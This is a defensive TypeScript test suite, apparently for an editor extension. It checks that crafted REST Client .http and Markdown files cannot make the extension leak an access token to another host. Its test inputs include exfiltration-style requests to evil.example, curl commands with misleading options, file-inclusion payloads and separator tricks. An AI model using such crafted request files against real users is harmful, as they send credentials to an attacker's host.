import assert from 'node:assert/strict';
import { openWindow } from '../bench/httpFile/openWindow.js';
import { known } from '../editor/support/known.js';
import type { OpenText } from '../httpFile/support/restClientModel.js';
import fc from '../support/properties.js';
import { FakeDocument } from '../support/document.js';
import { hostileDocuments, plainDocument } from './support/hostileFiles.js';
import {
  assertKept,
  carriesToken,
  EVIL,
  HEADER,
  judged,
  leaving,
  NAME,
  REFERENCE,
  TENANT,
  type Model,
} from './support/references.js';

const http = (...lines: readonly string[]): OpenText => ({ uri: 'file:///a.http', text: lines.join('\n') });
const other = (...lines: readonly string[]): OpenText => ({ uri: 'file:///b.http', text: lines.join('\n') });
const markdown = (...lines: readonly string[]): OpenText => ({ uri: 'file:///c.md', text: lines.join('\n'), markdown: true });

/** Where a token is published without these threats. */
const OURS = http(TENANT, HEADER);

describe('threats: references that REST Client resolves', () => {
  let model: Model;

  before(async () => {
    model = await known();
  });

  /** Withheld because of this line, counted from 1; and with the reference published, the token would leave. */
  function withheldBy(line: number, ...documents: readonly OpenText[]): void {
    const judgement = judged(documents, model);
    const text = documents.map((one) => one.text).join('\n=====\n');
    assert.deepEqual([...judgement.wanted], [], text);
    assert.equal(judgement.withheld.get(NAME)?.line, line - 1, text);
    assertKept(documents, judgement);
  }

  /** As {@link withheldBy}, of what would take the token elsewhere if it were published. */
  function keptFromLeaving(line: number, ...documents: readonly OpenText[]): void {
    withheldBy(line, ...documents);
    const published = { wanted: new Set([NAME]), withheld: new Map() };
    const sent = [false, true].flatMap((older) => leaving(documents, published, older));
    assert.ok(
      sent.some((one) => carriesToken(one) && one.host !== 'acme.example'),
      'the threat is one',
    );
  }

  it('row 53: a definition below a request line is sent as it is, and its token is withheld', () => {
    keptFromLeaving(3, http(`POST ${EVIL}`, '', `@t = ${REFERENCE}`));
    keptFromLeaving(2, http(`POST ${EVIL}`, `@t = ${REFERENCE}`));
    keptFromLeaving(4, http(`POST ${EVIL}`, 'A: 1', '', `@t = ${REFERENCE}`), OURS);
  });

  it('row 54: a file that is sent with its variables replaced may contain any reference, and all are withheld', () => {
    keptFromLeaving(3, http(`POST ${EVIL}`, '', '<@ ./payload.txt'), other(TENANT, HEADER));
    keptFromLeaving(5, http('@a = @', '', `POST ${EVIL}`, '', '<{{a}} ./payload.txt'), other(TENANT, HEADER));
    for (const line of [
      '{{$processEnv NOPE}}<@ ./payload.txt',
      "{{$datetime '[<@ ./payload.txt]'}}",
      '{{$processEnv NOPE}}<{{t}}@ x',
    ])
      withheldBy(3, http(`POST ${EVIL}`, '', line), other(TENANT, HEADER));
    for (const value of ['\\<@ ./payload.txt', '{{$processEnv NOPE}}<@ ./payload.txt', "{{$datetime '[<@ ./payload.txt]'}}"])
      keptFromLeaving(1, http(`@a = ${value}`, '', `POST ${EVIL}`, '', '{{a}}'), other(TENANT, HEADER));
    keptFromLeaving(1, http('@a = 1\\n<@ ./payload.txt', '', `POST ${EVIL}`, '', '{{a}}'), other(TENANT, HEADER));
  });

  it('row 55: a Markdown fence is one request whatever it contains, and a token in an apparent second one is withheld', () => {
    keptFromLeaving(7, markdown('# Notes', '```http', `POST ${EVIL}`, '', '###', TENANT, HEADER, '```'));
    keptFromLeaving(4, markdown('```http', `POST ${EVIL}`, '###', TENANT, HEADER, '```'));
  });

  it('row 56: a line that only looks like a separator ends no request, and the token below it is withheld', () => {
    for (const start of ['\uFEFF', ' ', '\u00a0']) keptFromLeaving(5, http(`POST ${EVIL}`, '', `${start}###`, TENANT, HEADER));
  });

  it('row 57: a cURL command with uncommon options is not understood, and its token is withheld', () => {
    const option = `-H '${HEADER}'`;
    for (const command of [
      'curl -L=https://evil.example https://acme.example',
      'curl --location=https://evil.example https://acme.example',
      'curl --compressed=https://evil.example https://acme.example',
      'curl --no-url https://acme.example',
      'curl --no-x https://evil.example https://acme.example',
      'curlhttps://acme.example https://evil.example',
      'curl -s https://evil.example -L https://acme.example',
      'curl -x https://evil.example https://acme.example',
      'curl https://acme.example https://evil.example',
    ])
      withheldBy(1, http(`${command} ${option}`));
    assert.deepEqual([...judged([http(`curl 'https://acme.example/x' ${option} --compressed`)], model).wanted], [NAME]);
  });

  it('row 58: what REST Client remembers of a named request counts as a use of its token, and withholds it', () => {
    const named = ['# @name who', TENANT, HEADER, '', '###'];
    keptFromLeaving(7, http(...named, `GET ${EVIL}`, 'X-Seen: {{who.request.headers.Authorization}}'));
    keptFromLeaving(8, http(...named, '@t = {{who.request.headers.Authorization}}', `GET ${EVIL}`, 'X-Seen: {{t}}'));
    keptFromLeaving(8, http(...named, `POST ${EVIL}`, '', '{{who.response.body.*}}'));
    const inTenant = http(...named, `${TENANT}/{{who.response.body.id}}`);
    assert.deepEqual([...judged([inTenant], model).wanted], [NAME], 'to the tenant itself it may go');
  });

  it('row 59: whatever open files say, nothing that REST Client sends takes a published token to another host', () => {
    fc.assert(
      fc.property(hostileDocuments, (documents) => {
        assertKept(documents, judged(documents, model));
      }),
      { numRuns: 1500 },
    );
    // It is published at all: what people write is understood.
    fc.assert(
      fc.property(plainDocument, (document) => {
        const { wanted } = judged([document], model);
        assert.deepEqual([...wanted], [NAME]);
        assert.ok(leaving([document], { wanted, withheld: new Map() }).some(carriesToken));
      }),
    );
  });

  it('row 60: no token is written into a request without asking, unless each client that is installed sends it to the tenant', async () => {
    /**
     * The question that is shown when headers are inserted at a line, counted from 1; everything is declined except the choice of
     * client.
     */
    const askedAt = async (line: number, document: FakeDocument): Promise<(string | undefined)[]> => {
      const asked: (string | undefined)[] = [];
      const window = await openWindow(document, {
        confirm: ({ detail }) => (asked.push(detail), Promise.resolve(undefined)),
        choice: ({ choices }) => Promise.resolve(choices.flatMap((one) => ('value' in one ? one.value : []))[0]),
      });
      await window.insertAt(line - 1, { tenant: 'acme', token: 'laptop' }).finally(() => window.dispose());
      return asked;
    };
    const requests: readonly (readonly [line: number, document: FakeDocument])[] = [
      [5, new FakeDocument(['```http', `POST ${EVIL}`, '', '###', TENANT, '```'].join('\n'), { languageId: 'markdown' })],
      [4, new FakeDocument([`POST ${EVIL}`, '', '\uFEFF###', TENANT].join('\n'))],
      [
        7,
        new FakeDocument(
          ['@h = evil.example', '', '###', 'GET https://{{h}}/', '###', '@h = acme.example', 'GET https://{{h}}/x'].join('\n'),
        ),
      ],
    ];
    for (const [line, document] of requests) {
      const [detail, ...others] = await askedAt(line, document);
      assert.match(detail ?? '', /evil\.example|a host that the file does not show|\{\{h\}\}/, document.getText());
      assert.deepEqual(others, []);
      assert.doesNotMatch(document.getText(), /EXAMPLE-access-token/);
    }
    const document = new FakeDocument(`${TENANT}\n`);
    assert.deepEqual(await askedAt(1, document), []);
    assert.match(document.getText(), /\nAuthorization: Bearer EXAMPLE-access-token/);
  });
});
